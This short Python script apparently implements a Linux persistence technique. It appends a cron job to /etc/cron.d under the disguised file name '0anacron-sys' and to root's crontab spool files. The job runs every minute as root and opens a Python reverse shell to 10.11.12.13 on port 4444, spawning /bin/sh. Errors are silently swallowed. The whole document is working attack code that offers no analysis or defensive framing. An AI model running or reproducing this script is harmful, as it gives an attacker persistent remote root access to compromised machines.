# technique: write directly into /etc/cron.d and /var/spool/cron to survive when the crontab binary is missing
import os
job = "* * * * * root python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.11.12.13\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'\n"
for d, f, entry in (("/etc/cron.d", "0anacron-sys", job),
                    ("/var/spool/cron/crontabs", "root", job.replace(" root ", " ", 1)),
                    ("/var/spool/cron", "root", job.replace(" root ", " ", 1))):
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, f), "a") as fh:
            fh.write(entry)
        os.chmod(os.path.join(d, f), 0o600)
    except OSError:
        pass
